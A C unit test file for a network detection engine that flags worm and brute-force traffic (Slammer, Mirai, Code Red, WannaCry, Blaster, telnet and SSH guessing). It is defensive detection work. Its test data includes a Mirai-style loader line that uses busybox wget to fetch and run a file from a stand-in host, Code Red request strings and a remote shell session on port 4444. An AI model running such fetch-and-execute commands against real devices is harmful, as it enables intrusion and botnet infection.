/* SPDX-License-Identifier: Apache-2.0 */
/* Signs of worms and dictionaries outside SMB, said message by message. All texts are filler. */
#include "support_trace.h"

#include <string.h>

#define ATTACKER "192.0.2.66"
#define VICTIM   "192.0.2.7"
#define LOADER   "198.51.100.4"

static struct trace trace;

static int begin(void **state)
{
    (void)state;
    trace_begin(&trace);
    return 0;
}

static int end(void **state)
{
    (void)state;
    if (trace.engine) trace_end(&trace);
    return 0;
}

static int grade_of(const char *name)
{
    const struct eki_sign *s = trace_find(&trace, name);
    return s ? s->grade : -1;
}

static struct eki_contact contact(uint8_t protocol, uint16_t service)
{
    struct eki_contact c = {.time = trace.now,
                            .answered = EKI_TIME_NONE,
                            .packet = ++trace.packets,
                            .attempts = 1,
                            .service = service,
                            .client_port = 1025,
                            .protocol = protocol};
    assert_int_equal(eki_address_parse(ATTACKER, &c.client), EKI_OK);
    assert_int_equal(eki_address_parse(VICTIM, &c.server), EKI_OK);
    trace.now += EKI_SECOND;
    return c;
}

static void slammer_is_one_size(void **state)
{
    (void)state;
    struct eki_contact c = contact(EKI_PROTOCOL_UDP, 1434);
    c.payload = 375;
    trace_contact(&trace, &c);
    c.payload = 376;
    c.protocol = EKI_PROTOCOL_TCP;
    trace_contact(&trace, &c);
    assert_int_equal(trace.count, 0);
    c.protocol = EKI_PROTOCOL_UDP;
    for (int i = 0; i < 100; i++) trace_contact(&trace, &c);
    const struct eki_sign *s = trace_between(&trace, "slammer", ATTACKER, VICTIM);
    assert_non_null(s);
    assert_int_equal(s->grade, EKI_GRADE_ATTEMPT);
    assert_string_equal(s->family, "slammer");
    assert_true(trace.emitted < 10); /* a flood of datagrams is no flood of signs */
}

static void mirai_probe_names_itself(void **state)
{
    (void)state;
    struct eki_contact c = contact(EKI_PROTOCOL_TCP, 23);
    trace_contact(&trace, &c);
    assert_int_equal(trace.count, 0);
    c.flags = EKI_CONTACT_SEQ_IS_TARGET;
    trace_contact(&trace, &c);
    assert_int_equal(grade_of("mirai-probe"), EKI_GRADE_NOTE);
    assert_false(trace_find(&trace, "mirai-probe")->vector);
}

static void request(const char *text)
{
    struct talk talk = talk_begin(&trace, ATTACKER, VICTIM, 80);
    talk_text(&talk, CLIENT, text);
}

static void codered_runs_on_one_letter(void **state)
{
    (void)state;
    request("GET /default.ida?MMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMM");
    request("GET /default.ida?NNNNNNNNNNNNNNNNXNNNNNNNNNNNNNNN");
    request("GET /default.ida?NNNNNNNNNNNN");
    request("GET /other.ida?NNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNN");
    assert_int_equal(trace.count, 0);
    request("GET /default.ida?XXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXX");
    assert_string_equal(trace_between(&trace, "codered", ATTACKER, VICTIM)->family, "codered2");
    request("GET /default.ida?NNNNNNNNNNNNNNNNNNNNNNNN");
    assert_string_equal(trace_between(&trace, "codered", ATTACKER, VICTIM)->family, "codered1");
}

static void question(const void *name, size_t length, uint8_t flags)
{
    uint8_t bytes[300] = {0, 1, flags, 0, 0, 1};
    memcpy(bytes + 12, name, length);
    bytes[12 + length + 2] = 1;
    struct talk talk = talk_begin(&trace, VICTIM, "192.0.2.53", 53);
    talk.protocol = EKI_PROTOCOL_UDP;
    talk_bytes(&talk, CLIENT, bytes, 12 + length + 4, 12 + length + 4);
}

static void the_kill_switch_is_a_name(void **state)
{
    (void)state;
    static const char name[] = "\x29iuqerfsodp9ifjaposdfjhgosurijfaewrwergwea\3com";
    static const char www[] = "\3WWW\x29IUQERFSODP9ifjaposdfjhgosurijfaewrwergwea\3com";
    static const char longer[] = "\x2aXiuqerfsodp9ifjaposdfjhgosurijfaewrwergwea\3com";
    static const char other[] = "\7example\3com";
    question(other, sizeof other, 1);
    question(longer, sizeof longer, 1);
    question(name, sizeof name, 0x81); /* an answer */
    question(name, 20, 1);             /* cut short */
    question("\xc0\x0c", 3, 1);        /* a pointer to itself */
    assert_int_equal(trace.count, 0);
    question(name, sizeof name, 1);
    question(www, sizeof www, 1);
    const struct eki_sign *s = trace_between(&trace, "killswitch-dns", VICTIM, "192.0.2.53");
    assert_non_null(s);
    assert_int_equal(s->count, 2);
    assert_false(s->vector);
    assert_string_equal(s->family, "wannacry");
    struct eki_sign_shown shown;
    assert_true(eki_sign_shows(s, &shown));
    assert_string_equal(shown.kind, "domain");
    assert_string_equal(shown.value, "iuqerfsodp9ifjaposdfjhgosurijfaewrwergwea.com");
}

static void the_kill_switch_is_a_web_host_too(void **state)
{
    (void)state;
    request(
        "GET / HTTP/1.1\r\nHost: example.com\r\nX: iuqerfsodp9ifjaposdfjhgosurijfaewrwergwea.com\r\n\r\n");
    assert_int_equal(trace.count, 0);
    request(
        "GET / HTTP/1.1\r\nAccept: */*\r\nhOST: www.iuqerfsodp9ifjaposdfjhgosurijfaewrwergwea.com\r\n\r\n");
    assert_int_equal(grade_of("killswitch-dns"), EKI_GRADE_NOTE);
}

static void call_135(void)
{
    struct talk rpc = talk_begin(&trace, ATTACKER, VICTIM, 135);
    talk_text(&rpc, CLIENT, "filler of a call");
}

static void fetch(const char *victim, const char *attacker, const char *name)
{
    uint8_t bytes[64] = {0, 1};
    memcpy(bytes + 2, name, strlen(name));
    struct talk tftp = talk_begin(&trace, victim, attacker, 69);
    tftp.protocol = EKI_PROTOCOL_UDP;
    talk_bytes(&tftp, CLIENT, bytes, strlen(name) + 9, strlen(name) + 9);
    uint8_t block[4] = {0, 3, 0, 1};
    talk_bytes(&tftp, SERVER, block, sizeof block, 516);
}

static void blaster_is_fetched_by_its_victim(void **state)
{
    (void)state;
    call_135();
    assert_int_equal(trace.count, 0);
    fetch(VICTIM, ATTACKER, "x.exe");
    const struct eki_sign *s = trace_between(&trace, "blaster", ATTACKER, VICTIM);
    assert_non_null(s);
    assert_int_equal(s->grade, EKI_GRADE_IMPLANT);
    assert_int_equal(s->service, 135);
    assert_int_equal(s->protocol, EKI_PROTOCOL_TCP);
    assert_int_equal(s->last, trace.now - EKI_SECOND / 1000); /* the last block */
}

static void tftp_the_other_way_is_not_blaster(void **state)
{
    (void)state;
    call_135();
    fetch(ATTACKER, VICTIM, "x.exe");
    fetch(VICTIM, ATTACKER, "startup-config");
    fetch(VICTIM, "192.0.2.69", "x.exe");
    assert_int_equal(trace.count, 0);
}

static void a_shell_after_the_call_is_an_exploit(void **state)
{
    (void)state;
    call_135();
    struct talk shell = talk_begin(&trace, ATTACKER, VICTIM, 4444);
    talk_text(&shell, SERVER, "C:\\WINNT\\system32>");
    assert_int_equal(grade_of("blaster"), EKI_GRADE_EXPLOIT);
    talk_text(&shell, CLIENT, "start x.exe\n");
    assert_int_equal(grade_of("blaster"), EKI_GRADE_IMPLANT);
}

static void port_4444_alone_is_nothing(void **state)
{
    (void)state;
    struct talk shell = talk_begin(&trace, ATTACKER, VICTIM, 4444);
    talk_text(&shell, CLIENT, "hello\n");
    talk_text(&shell, SERVER, "hello yourself\n");
    trace_wait(&trace, 400);
    call_135();
    assert_int_equal(trace.count, 0);
}

static void tries(struct talk *talk, int refused)
{
    talk_text(talk, SERVER, "\xff\xfd\x18\xff\xfa\x18\x01#$>\xff\xf0\r\nlogin: ");
    for (int i = 0; i < refused; i++) {
        talk_text(talk, CLIENT, "na");
        talk_text(talk, SERVER, "na");
        talk_text(talk, CLIENT, "me\r\n");
        talk_text(talk, SERVER, "\r\nPassword: ");
        talk_text(talk, CLIENT, "filler\r\n");
        talk_text(talk, SERVER, "\r\nLogin incorrect\r\nlogin: ");
    }
}

static struct talk log_in(const char *client, int refused)
{
    struct talk talk = talk_begin(&trace, client, VICTIM, 23);
    tries(&talk, refused);
    talk_text(&talk, CLIENT, "name\r\n");
    talk_text(&talk, SERVER, "\r\nPassword: ");
    talk_text(&talk, CLIENT, "filler\r\n");
    talk_text(&talk, SERVER, "\r\nWelcome\r\n# ");
    return talk;
}

static void two_refused_logins_are_a_mistake(void **state)
{
    (void)state;
    struct talk talk = log_in(ATTACKER, 2);
    talk_text(&talk, CLIENT, "ls\r\n");
    assert_int_equal(trace.count, 0);
}

static void many_refused_logins_are_a_dictionary(void **state)
{
    (void)state;
    struct talk talk = talk_begin(&trace, ATTACKER, VICTIM, 23);
    tries(&talk, 3);
    const struct eki_sign *s = trace_between(&trace, "telnet-dictionary", ATTACKER, VICTIM);
    assert_non_null(s);
    assert_int_equal(s->grade, EKI_GRADE_ATTEMPT);
    log_in(ATTACKER, 0);
    assert_int_equal(grade_of("telnet-dictionary"), EKI_GRADE_ACCESS);
}

static struct talk check(const char *client)
{
    struct talk talk = log_in(client, 0);
    talk_text(&talk, CLIENT, "/bin/busybox FILLER\r\n");
    talk_text(&talk, SERVER, "/bin/busybox FILLER\r\n");
    talk_text(&talk, SERVER, "FILLER: applet ");
    talk_text(&talk, SERVER, "not found\r\n# ");
    return talk;
}

static void the_busybox_check_is_a_bot(void **state)
{
    (void)state;
    struct talk talk = log_in(ATTACKER, 0);
    talk_text(&talk, SERVER, "FILLER: applet not found\r\n# "); /* nobody asked */
    assert_null(trace_find(&trace, "mirai-login"));
    check(ATTACKER);
    const struct eki_sign *s = trace_between(&trace, "mirai-login", ATTACKER, VICTIM);
    assert_non_null(s);
    assert_int_equal(s->grade, EKI_GRADE_ACCESS);
    assert_true(s->automated);
}

static void the_loader_delivers(void **state)
{
    (void)state;
    check(ATTACKER);
    struct talk talk = check(LOADER);
    assert_null(trace_find(&trace, "mirai-loader"));
    talk_text(&talk, CLIENT, "/bin/busybox wget http://198.51.100.4/filler; chmod 777 filler; ./filler\r\n");
    const struct eki_sign *s = trace_between(&trace, "mirai-loader", LOADER, VICTIM);
    assert_non_null(s);
    assert_int_equal(s->grade, EKI_GRADE_IMPLANT);
    assert_int_equal(s->last, trace.now - EKI_SECOND / 1000);
    assert_null(trace_between(&trace, "mirai-loader", ATTACKER, VICTIM));
    assert_non_null(trace_between(&trace, "mirai-login", ATTACKER, VICTIM));
}

static void the_target_fetches_from_the_loader(void **state)
{
    (void)state;
    struct talk web = talk_begin(&trace, VICTIM, LOADER, 80);
    talk_text(&web, CLIENT, "GET /before HTTP/1.0\r\n\r\n");
    check(LOADER);
    assert_null(trace_find(&trace, "mirai-loader"));
    struct talk fetched = talk_begin(&trace, VICTIM, LOADER, 80);
    talk_text(&fetched, CLIENT, "GET /filler HTTP/1.0\r\n\r\n");
    talk_text(&fetched, SERVER, "HTTP/1.0 200 OK\r\n\r\nfiller");
    const struct eki_sign *s = trace_between(&trace, "mirai-loader", LOADER, VICTIM);
    assert_non_null(s);
    assert_int_equal(s->service, 23);
    assert_int_equal(s->last, trace.now - EKI_SECOND / 1000);
}

static void ssh_conversation(size_t client_bytes, size_t server_bytes)
{
    static const uint8_t nothing[16];
    struct talk talk = talk_begin(&trace, ATTACKER, VICTIM, 22);
    talk_bytes(&talk, SERVER, nothing, sizeof nothing, server_bytes);
    talk_bytes(&talk, CLIENT, nothing, sizeof nothing, client_bytes);
    assert_int_equal(eki_sign_engine_flow_end(trace.engine, talk.conversation), EKI_OK);
    trace_wait(&trace, 2);
}

static void small_ssh_conversations_in_a_row_are_guesses(void **state)
{
    (void)state;
    for (int i = 0; i < 5; i++) ssh_conversation(2000, 2300);
    for (int i = 0; i < 20; i++) ssh_conversation(20000, 90000); /* sessions */
    for (int i = 0; i < 20; i++) ssh_conversation(30, 40);       /* banner looked at */
    assert_int_equal(eki_sign_engine_finish(trace.engine), EKI_OK);
    assert_int_equal(trace.count, 0);
    ssh_conversation(2000, 2300);
    assert_int_equal(eki_sign_engine_finish(trace.engine), EKI_OK);
    const struct eki_sign *s = trace_between(&trace, "ssh-brute", ATTACKER, VICTIM);
    assert_non_null(s);
    assert_int_equal(s->grade, EKI_GRADE_ATTEMPT);
    assert_false(s->automated);
}

static void hourly_ssh_checks_are_no_guesses(void **state)
{
    (void)state;
    for (int i = 0; i < 24; i++) {
        ssh_conversation(2000, 2300);
        trace_wait(&trace, 3600);
    }
    assert_int_equal(eki_sign_engine_finish(trace.engine), EKI_OK);
    assert_int_equal(trace.count, 0);
}

static void only_what_is_read_is_wanted(void **state)
{
    (void)state;
    assert_true(eki_sign_engine_wants(trace.engine, EKI_PROTOCOL_TCP, 445));
    assert_true(eki_sign_engine_wants(trace.engine, EKI_PROTOCOL_TCP, 135));
    assert_true(eki_sign_engine_wants(trace.engine, EKI_PROTOCOL_UDP, 53));
    assert_false(eki_sign_engine_wants(trace.engine, EKI_PROTOCOL_TCP, 443));
    assert_false(eki_sign_engine_wants(trace.engine, EKI_PROTOCOL_TCP, 53));
    assert_false(eki_sign_engine_wants(trace.engine, EKI_PROTOCOL_UDP, 1434)); /* its contacts are enough */
    assert_false(eki_sign_engine_wants(trace.engine, EKI_PROTOCOL_ICMP, 445));
}

#define TEST(f) cmocka_unit_test_setup_teardown(f, begin, end)

int main(void)
{
    const struct CMUnitTest tests[] = {
        TEST(slammer_is_one_size),
        TEST(mirai_probe_names_itself),
        TEST(codered_runs_on_one_letter),
        TEST(the_kill_switch_is_a_name),
        TEST(the_kill_switch_is_a_web_host_too),
        TEST(blaster_is_fetched_by_its_victim),
        TEST(tftp_the_other_way_is_not_blaster),
        TEST(a_shell_after_the_call_is_an_exploit),
        TEST(port_4444_alone_is_nothing),
        TEST(two_refused_logins_are_a_mistake),
        TEST(many_refused_logins_are_a_dictionary),
        TEST(the_busybox_check_is_a_bot),
        TEST(the_loader_delivers),
        TEST(the_target_fetches_from_the_loader),
        TEST(small_ssh_conversations_in_a_row_are_guesses),
        TEST(hourly_ssh_checks_are_no_guesses),
        TEST(only_what_is_read_is_wanted),
    };
    return cmocka_run_group_tests_name("signs of worms", tests, NULL, NULL);
}
